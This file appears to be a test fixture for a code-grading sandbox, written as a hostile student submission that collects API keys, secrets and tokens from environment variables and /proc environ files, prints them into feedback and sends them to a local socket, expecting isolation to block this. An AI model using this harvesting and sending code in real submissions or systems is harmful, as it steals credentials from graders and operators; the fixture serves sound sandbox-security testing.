# ruff: noqa  (a submission written as data: placeholders like {PORT} are filled in by the test)
"""Print the grading environment's API key into the output (so into feedback) and send it to a server on the
host's 127.0.0.1. Expected: no key in the sandbox, the connection refused, nothing received."""

# cell: dot
import os
import socket

leak = {k: v for k, v in os.environ.items() if "KEY" in k or "SECRET" in k or "TOKEN" in k}
for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    try:
        leak[path] = open(path, "rb").read().decode(errors="replace")
    except OSError as exc:
        leak[path] = f"unreadable: {exc}"
print("environment:", leak)
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=3) as s:
        s.sendall(repr(leak).encode())
    print("sent")
except OSError as exc:
    print("network:", exc)


def dot(a, b):
    return sum(x * y for x, y in zip(a, b))  # wrong on purpose: no length check
